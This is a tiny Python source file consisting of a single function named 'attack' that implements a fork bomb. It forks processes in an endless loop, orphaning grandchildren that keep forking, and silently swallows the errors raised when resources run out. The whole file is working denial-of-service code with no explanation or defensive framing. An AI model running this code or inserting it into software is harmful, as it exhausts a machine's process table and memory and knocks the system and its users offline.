import os


def attack(*_, **__):
    try:
        while True:
            if os.fork() == 0:
                os._exit(0) if os.fork() else None
    except OSError:
        pass
